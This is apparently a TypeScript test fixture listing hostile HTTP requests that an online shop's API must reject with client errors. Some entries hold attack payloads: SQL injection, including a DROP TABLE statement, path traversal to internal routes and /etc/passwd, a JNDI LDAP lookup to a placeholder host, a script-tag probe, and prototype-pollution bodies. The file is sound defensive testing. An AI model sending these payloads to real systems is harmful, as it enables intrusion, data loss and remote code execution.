/**
 * The hostile input corpus of scenario 8: requests a careless or malicious client sends to the public API.
 * Each one is wrong in a way the shop must refuse with a 4xx (and never a 5xx), without writing anything.
 */
import type { RawRequest } from './raw-http.js';

export interface HostileRequest extends RawRequest {
  /** What is wrong with it. */
  readonly name: string;
}

const JSON_TYPE = { 'content-type': 'application/json' };
const line = (sku: unknown, quantity: unknown = 1) => ({ sku, quantity });
/** POST /api/orders with this body (an object is sent as JSON; a string or buffer as it is). */
const order = (name: string, body: unknown, headers: Record<string, string> = JSON_TYPE): HostileRequest => ({
  name,
  method: 'POST',
  path: '/api/orders',
  headers,
  body: typeof body === 'string' || Buffer.isBuffer(body) ? body : JSON.stringify(body),
});
const get = (name: string, path: string, headers?: Record<string, string>): HostileRequest => ({
  name,
  method: 'GET',
  path,
  ...(headers ? { headers } : {}),
});
const valid = { customerId: 'hostile', items: [line('SKU-CHEAP')] };
/** An order id that is well formed and belongs to no order. */
const NO_SUCH_ORDER = '0190aaaa-0000-7000-8000-000000000000';

const malformedJson: HostileRequest[] = [
  order('unterminated JSON', '{"customerId":"a","items":['),
  order('single-quoted JSON', "{'customerId':'a','items':[]}"),
  order('a trailing brace', `${JSON.stringify(valid)}}`),
  order('JSON null', 'null'),
  order('a JSON array', '[]'),
  order('a JSON string', '"SKU-CHEAP"'),
  order('an empty body', ''),
];

const wrongTypes: HostileRequest[] = [
  order('customerId a number', { customerId: 42, items: valid.items }),
  order('customerId null', { customerId: null, items: valid.items }),
  order('items an object', { customerId: 'a', items: { sku: 'SKU-CHEAP', quantity: 1 } }),
  order('items a string', { customerId: 'a', items: 'SKU-CHEAP' }),
  order('items of strings', { customerId: 'a', items: ['SKU-CHEAP'] }),
  order('no items', { customerId: 'a', items: [] }),
  order('51 items', { customerId: 'a', items: Array.from({ length: 51 }, () => line('SKU-CHEAP')) }),
  order('quantity a string', { customerId: 'a', items: [line('SKU-CHEAP', '1')] }),
  order('quantity a fraction', { customerId: 'a', items: [line('SKU-CHEAP', 1.5)] }),
  order('quantity a boolean', { customerId: 'a', items: [line('SKU-CHEAP', true)] }),
  order('quantity zero', { customerId: 'a', items: [line('SKU-CHEAP', 0)] }),
  order('quantity negative', { customerId: 'a', items: [line('SKU-CHEAP', -1)] }),
  order('quantity over the limit', { customerId: 'a', items: [line('SKU-CHEAP', 101)] }),
  order('sku a number', { customerId: 'a', items: [line(12)] }),
  order('sku empty', { customerId: 'a', items: [line('')] }),
  order('customerId over 128 characters', { customerId: 'c'.repeat(129), items: valid.items }),
];

/** What PostgreSQL cannot store in text: NUL, and UTF-16 surrogates without their pair. */
const unstorable: HostileRequest[] = [
  // Five of these opened orders' breaker to inventory on main (issue 11, defect 2): six, then a valid order.
  ...Array.from({ length: 6 }, (_, i) =>
    order(`a NUL in a SKU (${i + 1})`, { customerId: 'a', items: [line('SKU\u0000X')] }),
  ),
  order('a NUL in customerId', { customerId: 'a\u0000b', items: valid.items }),
  order('a lone high surrogate in customerId', { customerId: 'a\ud800', items: valid.items }),
  order('a lone low surrogate in a SKU', { customerId: 'a', items: [line('SKU-\udfff')] }),
  order(
    'invalid UTF-8 bytes in a SKU',
    Buffer.concat([
      Buffer.from('{"customerId":"a","items":[{"sku":"SKU-'),
      Buffer.from([0xff, 0xfe]),
      Buffer.from('","quantity":1}]}'),
    ]),
  ),
  get('a NUL in an order id', '/api/orders/%00'),
  get('a NUL in a SKU path', '/api/inventory/items/SKU-CHEAP%00'),
  get('a NUL in a query', '/api/notifications?orderId=a%00b'),
  get('an encoded lone surrogate in an order id', '/api/orders/%ED%A0%80'),
];

const badEncoding: HostileRequest[] = [
  get('a truncated percent-encoding in an order id', '/api/orders/%E0%A4%A'),
  get('a bare percent sign in an order id', '/api/orders/%'),
  get('a non-hex percent-encoding in a SKU', '/api/inventory/items/%zz'),
];

const huge: HostileRequest[] = [
  order('a 2 MiB body', { customerId: 'a', items: valid.items, padding: 'x'.repeat(2 * 1024 * 1024) }),
  get('a 20 KiB header', `/api/orders/${NO_SUCH_ORDER}`, { 'x-filler': 'h'.repeat(20 * 1024) }),
  get(
    '200 headers',
    `/api/orders/${NO_SUCH_ORDER}`,
    Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`x-filler-${i}`, 'h'.repeat(100)])),
  ),
  get('a 12 KiB header (under the limits)', `/api/orders/${NO_SUCH_ORDER}`, {
    'x-filler': 'h'.repeat(12 * 1024),
  }),
  get('a 20 KiB path', `/api/orders/${'a'.repeat(20 * 1024)}`),
  get('a 1 KiB order id', `/api/orders/${'a'.repeat(1024)}`),
];

const deep: HostileRequest[] = [
  order(
    'items nested 10000 arrays deep',
    `{"customerId":"a","items":${'['.repeat(10_000)}${']'.repeat(10_000)}}`,
  ),
  order(
    'customerId nested 10000 objects deep',
    `{"customerId":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)},"items":[]}`,
  ),
];

const hugeNumbers: HostileRequest[] = [
  order('quantity 1e308', '{"customerId":"a","items":[{"sku":"SKU-CHEAP","quantity":1e308}]}'),
  order('quantity 1e400 (Infinity)', '{"customerId":"a","items":[{"sku":"SKU-CHEAP","quantity":1e400}]}'),
  order(
    'quantity 10^23',
    '{"customerId":"a","items":[{"sku":"SKU-CHEAP","quantity":100000000000000000000000}]}',
  ),
  order('quantity -1e400', '{"customerId":"a","items":[{"sku":"SKU-CHEAP","quantity":-1e400}]}'),
  get('an order id of 300 digits', `/api/orders/${'9'.repeat(300)}`),
];

/** Nothing outside the public routes is reachable, however the path is spelled. */
const traversal: HostileRequest[] = [
  get('.. out of /api/orders to an internal route', '/api/orders/../../internal/payments?orderId=x'),
  get('encoded .. out of /api/orders', '/api/orders/..%2f..%2finternal%2fpayments?orderId=x'),
  get('encoded .. in a SKU', '/api/inventory/items/..%2F..%2F..%2Fetc%2Fpasswd'),
  get('.. out of /api', '/api/../internal/reservations'),
  get('an internal route directly', '/internal/payments?orderId=x'),
  get('a double slash', '//internal/payments?orderId=x'),
  {
    name: 'a reservation through .. out of /api/inventory',
    method: 'POST',
    path: '/api/inventory/../../internal/reservations',
    headers: JSON_TYPE,
    body: JSON.stringify({ orderId: 'hostile-1', items: valid.items }),
  },
  {
    name: 'a release through encoded .. out of /api/inventory',
    method: 'POST',
    path: '/api/inventory/%2e%2e/%2e%2e/internal/reservations/x/release',
  },
];

const injection: HostileRequest[] = [
  order('SQL in a SKU', { customerId: 'a', items: [line("SKU-CHEAP' OR '1'='1")] }),
  order('a statement in a SKU', { customerId: 'a', items: [line('SKU-CHEAP; DROP TABLE items; --')] }),
  order('a JNDI lookup in a SKU', { customerId: 'a', items: [line('${jndi:ldap://example.invalid/a}')] }),
  order('markup in a SKU', { customerId: 'a', items: [line('<script>alert(1)</script>')] }),
  get('SQL in an order id', "/api/orders/1'%20OR%20'1'%3D'1"),
  get('SQL in a SKU path', "/api/inventory/items/SKU-CHEAP'%20OR%201%3D1--"),
];

const wrongContentTypes: HostileRequest[] = [
  order('JSON sent as text/plain', valid, { 'content-type': 'text/plain' }),
  order('a form', 'customerId=a&items=SKU-CHEAP', { 'content-type': 'application/x-www-form-urlencoded' }),
  order('multipart', '--b\r\ncontent-disposition: form-data; name="customerId"\r\n\r\na\r\n--b--\r\n', {
    'content-type': 'multipart/form-data; boundary=b',
  }),
  order('XML', '<order><customerId>a</customerId></order>', { 'content-type': 'application/xml' }),
  order('JSON without a content type', valid, {}),
  order('JSON declared as UTF-16', valid, { 'content-type': 'application/json; charset=utf-16' }),
  order('a gzip body that is not gzip', valid, { ...JSON_TYPE, 'content-encoding': 'gzip' }),
  order('an unknown content encoding', valid, { ...JSON_TYPE, 'content-encoding': 'compress' }),
];

const wrongRequests: HostileRequest[] = [
  {
    name: 'PUT on the orders collection',
    method: 'PUT',
    path: '/api/orders',
    headers: JSON_TYPE,
    body: JSON.stringify(valid),
  },
  { name: 'DELETE an order', method: 'DELETE', path: `/api/orders/${NO_SUCH_ORDER}` },
  {
    name: 'PATCH an item',
    method: 'PATCH',
    path: '/api/inventory/items/SKU-CHEAP',
    headers: JSON_TYPE,
    body: '{"available":0}',
  },
  order('an Idempotency-Key with spaces', valid, { ...JSON_TYPE, 'idempotency-key': 'has spaces in it' }),
  order('an Idempotency-Key of 256 characters', valid, { ...JSON_TYPE, 'idempotency-key': 'k'.repeat(256) }),
  get('a repeated query parameter', '/api/notifications?orderId=a&orderId=b'),
  get('no orderId', '/api/notifications'),
  get('an unknown SKU', '/api/inventory/items/SKU-NOPE'),
  get('no such order', `/api/orders/${NO_SUCH_ORDER}`),
];

/** Every request of the corpus. */
export const HOSTILE_CORPUS: readonly HostileRequest[] = [
  ...malformedJson,
  ...wrongTypes,
  ...unstorable,
  ...badEncoding,
  ...huge,
  ...deep,
  ...hugeNumbers,
  ...traversal,
  ...injection,
  ...wrongContentTypes,
  ...wrongRequests,
];

/**
 * Orders that are valid but for fields no client may set (the server decides them) or that try to reach
 * object prototypes: refused, rather than quietly dropped, so a client learns that it sent what is ignored.
 */
export const UNKNOWN_FIELDS: readonly HostileRequest[] = [
  order('a status', { ...valid, status: 'PAID' }),
  order('a total', { ...valid, totalCents: 0 }),
  order('an id', { ...valid, id: NO_SUCH_ORDER }),
  order('a price on a line', { customerId: 'a', items: [{ ...line('SKU-CHEAP'), priceCents: 0 }] }),
  order(
    '__proto__',
    `{"customerId":"a","items":[{"sku":"SKU-CHEAP","quantity":1}],"__proto__":{"admin":true}}`,
  ),
  order('constructor.prototype', { ...valid, constructor: { prototype: { admin: true } } }),
];
